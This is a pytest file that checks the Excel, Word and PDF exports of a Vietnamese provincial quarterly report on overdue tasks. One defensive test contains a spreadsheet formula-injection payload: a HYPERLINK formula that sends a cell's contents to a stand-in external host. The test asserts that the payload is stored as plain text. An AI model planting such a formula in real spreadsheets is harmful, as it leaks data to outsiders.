"""The exported files open and carry the right figures (read back with openpyxl and
python-docx)."""
from __future__ import annotations

import subprocess
from dataclasses import replace
from datetime import date, datetime
from io import BytesIO

import pytest
from docx import Document
from openpyxl import load_workbook

from engine.reports.counts import Scope
from engine.reports.export_docx import write_docx
from engine.reports.export_pdf import write_pdf
from engine.reports.export_xlsx import write_xlsx
from engine.reports.service import build_report
from tests.reports.dataset import AS_OF, Q1


@pytest.fixture(scope="module")
def report(seeded):
    with seeded.engine.db.session() as s:
        return build_report(s, Scope(as_of=AS_OF, start=Q1[0], end=Q1[1]), period_label="Quý I năm 2026")


def test_xlsx_holds_the_unit_table_and_the_overdue_list(report):
    book = load_workbook(BytesIO(write_xlsx(report)))
    summary = book["Tổng hợp"]
    rows = [r for r in summary.iter_rows(values_only=True) if r and r[1] in ("Sở Tài chính", "Tổng cộng")]
    # …, fallen due, meeting difficulties (a6, blocked and overdue), rate, on-time rate (as the page ranks them)
    assert rows[0][1:] == ("Sở Tài chính", 8, 3, 1, 2, 2, 6, 1, 66.67, 50)
    assert rows[1][1:] == ("Tổng cộng", 12, 5, 1, 3, 3, 9, 1, 66.67, 55.56)
    notes = [r[0] for r in summary.iter_rows(values_only=True) if r and isinstance(r[0], str)]
    assert any("đã đến hạn" in n for n in notes)  # the report says which denominator it uses
    assert "Số ngày làm việc quá hạn" in next(book["Nhiệm vụ quá hạn"].iter_rows(min_row=5, values_only=True))
    overdue = [r for r in book["Nhiệm vụ quá hạn"].iter_rows(values_only=True) if r and r[2] == "Nhiệm vụ a6"]
    # the deadline a date (never extended: no earlier one; a working day: it ends on it)
    assert overdue[0][3:] == ("Sở Tài chính", datetime(2026, 3, 30), None, None, 1, "Chờ ý kiến của Bộ Tài chính",
                              "Đề nghị UBND tỉnh cho gia hạn đến 30/4")
    for sheet in book.worksheets:  # printed A4 landscape, one page wide, the header on every page
        setup = sheet.page_setup
        assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
        assert sheet.print_title_rows == "$5:$5" and sheet.freeze_panes == "A6"


def test_the_xlsx_deadlines_are_dates_an_office_head_sorts_by(report):
    """An office head sorts the overdue sheet by deadline in Excel: as text "25/03/2026" came after
    "01/04/2026" (day first). Both the deadline and the one an extension moved are Excel dates shown
    dd/mm/yyyy; the Word file still says the two in one cell."""
    extended = replace(report.overdue[0], original_deadline=date(2026, 2, 15))  # a9, now due 01/03/2026
    entries = [*report.overdue[1:], extended]
    sheet = load_workbook(BytesIO(write_xlsx(replace(report, overdue=entries))))["Nhiệm vụ quá hạn"]
    header = next(r for r in sheet.iter_rows(min_row=5, max_row=5))
    assert [c.value for c in header[4:6]] == ["Hạn hoàn thành nhiệm vụ", "Hạn ban đầu (trước khi gia hạn)"]
    rows = [r for r in sheet.iter_rows(min_row=6) if isinstance(r[0].value, int)]
    deadlines = {r[2].value: r[4] for r in rows}
    assert {task: cell.value for task, cell in deadlines.items()} == {
        "Nhiệm vụ a8": datetime(2026, 3, 25), "Nhiệm vụ a6": datetime(2026, 3, 30), "Nhiệm vụ a9": datetime(2026, 3, 1)}
    assert all(cell.is_date and cell.number_format == "dd/mm/yyyy" for cell in deadlines.values())
    originals = {r[2].value: r[5] for r in rows}
    assert originals["Nhiệm vụ a9"].value == datetime(2026, 2, 15) and originals["Nhiệm vụ a9"].is_date
    assert originals["Nhiệm vụ a9"].number_format == "dd/mm/yyyy" and originals["Nhiệm vụ a6"].value is None
    assert sorted(deadlines, key=lambda task: deadlines[task].value) == ["Nhiệm vụ a9", "Nhiệm vụ a8", "Nhiệm vụ a6"]
    word = Document(BytesIO(write_docx(replace(report, overdue=entries)))).tables[2]
    assert "01/03/2026 (tính đến 02/03/2026; ban đầu 15/02/2026)" in [row.cells[4].text for row in word.rows]


def test_the_exports_show_the_day_a_deadline_on_a_day_off_runs_to(report):
    """a9 is due Sun 01/03/2026, which ends with Mon 02/03 (Bộ luật Dân sự 2015, Đ.148 k.5): the Excel sheet
    has that day as a date of its own column, Word and PDF say it after the deadline; a8, due Wed 25/03, none."""
    sheet = load_workbook(BytesIO(write_xlsx(report)))["Nhiệm vụ quá hạn"]
    header = [c.value for c in next(sheet.iter_rows(min_row=5, max_row=5))]
    assert header[4:7] == ["Hạn hoàn thành nhiệm vụ", "Hạn ban đầu (trước khi gia hạn)",
                           "Hạn tính đến (hạn là ngày nghỉ: hết ngày làm việc tiếp theo)"]
    rows = {r[2].value: r for r in sheet.iter_rows(min_row=6) if isinstance(r[0].value, int)}
    assert rows["Nhiệm vụ a9"][6].value == datetime(2026, 3, 2) and rows["Nhiệm vụ a9"][6].is_date
    assert rows["Nhiệm vụ a9"][6].number_format == "dd/mm/yyyy" and rows["Nhiệm vụ a8"][6].value is None
    word = Document(BytesIO(write_docx(report))).tables[2]
    cells = {row.cells[2].text: row.cells[4].text for row in word.rows[1:]}
    assert (cells["Nhiệm vụ a9"], cells["Nhiệm vụ a8"]) == ("01/03/2026 (tính đến 02/03/2026)", "25/03/2026")


def test_docx_is_an_administrative_report_with_the_figures(report):
    doc = Document(BytesIO(write_docx(report)))
    heading = doc.tables[0].rows[0].cells
    assert "VĂN PHÒNG UBND TỈNH" in heading[0].text and "Số:" in heading[0].text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in heading[1].text
    assert "Độc lập - Tự do - Hạnh phúc" in heading[1].text and "ngày 31 tháng 3 năm 2026" in heading[1].text
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "BÁO CÁO" in text and "quý I năm 2026" in text
    assert "Tổng số nhiệm vụ được giao: 12" in text and "đã đến hạn" in text
    assert "Tỷ lệ hoàn thành: 66,67\u00a0%; tỷ lệ hoàn thành đúng hạn: 55,56\u00a0%." in text  # never "%" alone
    assert "Hiện có 1 nhiệm vụ đang gặp khó khăn, vướng mắc." in text
    units = doc.tables[1]
    stc = next(row for row in units.rows if row.cells[1].text == "Sở Tài chính")
    assert [c.text for c in stc.cells[2:]] == ["8", "3", "1", "2", "2", "6", "1", "66,67", "50"]
    overdue = doc.tables[2]
    assert [row.cells[2].text for row in overdue.rows[1:]] == ["Nhiệm vụ a9", "Nhiệm vụ a8", "Nhiệm vụ a6"]
    signature = doc.tables[-1].rows[0].cells
    assert "Nơi nhận:" in signature[0].text and "CHÁNH VĂN PHÒNG" in signature[1].text


def test_a_report_taken_before_its_period_ends_says_the_tasks_it_counts_were_assigned_up_to_that_day(seeded):
    # an office report consolidated on 16/03 counts the tasks given by then (x3, 01/04, not either)
    with seeded.engine.db.session() as s:
        report = build_report(s, Scope(as_of=date(2026, 3, 16), start=Q1[0], end=Q1[1]))
    text = "\n".join(p.text for p in Document(BytesIO(write_docx(report))).paragraphs)
    assert ("Số liệu tính đến ngày 16/03/2026, gồm các nhiệm vụ được giao từ ngày 01/01/2026 đến ngày "
            "16/03/2026.") in text


def test_pdf_embeds_a_font_with_vietnamese_glyphs(report):
    data = write_pdf(report)
    assert data.startswith(b"%PDF") and b"DejaVuSerif" in data and len(data) > 5000


def test_the_pdf_breaks_no_word_but_at_a_slash_and_drops_no_sign_a_unit_typed(report, tmp_path):
    """Real lengths: a long unit name and task, a symbol wider than its column, a deadline an extension moved,
    signs a unit types (☑, ✓: not in DejaVu Serif). fpdf cut a word too wide for its cell anywhere (")" of
    "(ban đầu 15/02/2026)" alone on a line, a symbol's last letters on the next) and drew no glyph for a sign
    its font lacks; a rate's "%" could end up alone at a line's start."""
    entry = replace(report.overdue[0], symbol="2618/2026/QĐ-UBND", original_deadline=date(2026, 2, 15),
                    unit_name="Ban Quản lý dự án đầu tư xây dựng các công trình dân dụng và công nghiệp tỉnh Đắk Lắk",
                    content="Chủ trì, phối hợp với Sở Tài chính, Sở Xây dựng và Ủy ban nhân dân các xã, phường rà "
                            "soát toàn bộ các dự án đầu tư công chậm giải ngân, báo cáo Ủy ban nhân dân tỉnh về "
                            "nguyên nhân, trách nhiệm và đề xuất giải pháp tháo gỡ trước ngày 15/4/2026",
                    reason="☑ Chờ ý kiến thẩm định của Bộ Tài chính về nguồn vốn → đã có văn bản số 123/STC-ĐT",
                    proposal="Đề nghị UBND tỉnh cho gia hạn đến 30/4/2026 ✓")
    path = tmp_path / "bao-cao.pdf"
    path.write_bytes(write_pdf(replace(report, overdue=[entry])))
    out = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    lines = [line.replace("\u200b", "") for line in out.splitlines()]   # where a word may break
    assert "15/02/2026)" in lines and ")" not in lines
    assert "2618/2026/" in lines and "QĐ-UBND" in lines   # the symbol broken at a slash
    assert "☑ Chờ ý kiến" in lines and "đến 30/4/2026 ✓" in lines
    assert not [line for line in lines if line.startswith("%")]   # a rate's sign after a no-break space


def test_a_report_lists_the_most_overdue_and_says_where_the_rest_are(seeded):
    """A year's list of a province far behind would not fit a signed report (bench/scale_reads):
    the three files name the most overdue tasks (earliest deadline first) and say how many more."""
    with seeded.engine.db.session() as s:
        cut = build_report(s, Scope(as_of=AS_OF, start=Q1[0], end=Q1[1]), overdue_listed=2)
    assert [o.content for o in cut.overdue] == ["Nhiệm vụ a9", "Nhiệm vụ a8"] and cut.overdue_total == 3
    note = "Danh sách trên nêu 2 nhiệm vụ quá hạn lâu nhất trong tổng số 3 nhiệm vụ quá hạn chưa hoàn thành"
    doc = Document(BytesIO(write_docx(cut)))
    assert len(doc.tables[2].rows) == 3 and note in "\n".join(p.text for p in doc.paragraphs)
    sheet = load_workbook(BytesIO(write_xlsx(cut)))["Nhiệm vụ quá hạn"]
    assert any(r[0] and note in str(r[0]) for r in sheet.iter_rows(values_only=True))
    assert write_pdf(cut).startswith(b"%PDF")


def test_a_report_that_lists_every_overdue_task_says_nothing_more(report):
    assert not report.overdue_cut and "Danh sách trên nêu" not in "\n".join(
        p.text for p in Document(BytesIO(write_docx(report))).paragraphs)


def test_text_a_unit_typed_never_runs_as_a_formula_in_the_xlsx(report):
    """An overdue reason or proposal is typed by a unit; openpyxl writes any text starting with
    '=' as a formula, which Excel would run in the office's copy (=HYPERLINK sending the sheet
    away, =WEBSERVICE…). It stays the text it was."""
    typed = "=HYPERLINK(\"http://x.example/?\"&C6,\"Xem\")"
    entry = replace(report.overdue[0], content=typed, reason=typed, proposal=typed)
    book = load_workbook(BytesIO(write_xlsx(replace(report, overdue=[entry]))))
    row = next(r for r in book["Nhiệm vụ quá hạn"].iter_rows() if r[0].value == 1)
    # task, reason, proposal (after the three deadline columns)
    assert [(c.value, c.data_type) for c in (row[2], row[8], row[9])] == [(typed, "s")] * 3


def test_a_ruleset_without_the_difficulties_status_files_no_column_of_it(seeded, tmp_path):
    """Cần Thơ, Đắk Lắk, Gia Lai, Bạc Liêu and tỉnh 2025 record an update "with difficulties" as in
    progress ([progress] blocked_status = false): the three files had a column "Đang gặp khó khăn,
    vướng mắc" reading 0 for every unit however many had reported difficulties (the Chairman of Cần Thơ
    got it in the issued monthly report), which the dashboard already left out. Where the status exists
    the column stays (test_xlsx_holds_the_unit_table_and_the_overdue_list)."""
    with seeded.engine.db.session() as s:
        report = build_report(s, Scope(as_of=AS_OF, start=Q1[0], end=Q1[1]), period_label="Quý I năm 2026",
                              settings={"progress": {"blocked_status": False}})
    column = "Đang gặp khó khăn, vướng mắc"
    summary = load_workbook(BytesIO(write_xlsx(report)))["Tổng hợp"]
    header = next(r for r in summary.iter_rows(min_row=5, max_row=5, values_only=True))
    assert column not in header and header[-2:] == ("Tỷ lệ hoàn thành (%)", "Tỷ lệ hoàn thành đúng hạn (%)")
    total = next(r for r in summary.iter_rows(values_only=True) if r and r[1] == "Tổng cộng")
    assert total[1:] == ("Tổng cộng", 12, 5, 1, 3, 3, 9, 66.67, 55.56)
    units = Document(BytesIO(write_docx(report))).tables[1]
    assert column not in [cell.text for cell in units.rows[0].cells] and len(units.columns) == 10
    path = tmp_path / "report.pdf"
    path.write_bytes(write_pdf(report))
    out = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    assert "khó khăn" not in out.replace("\u200b", "") and "Tổng cộng" in out
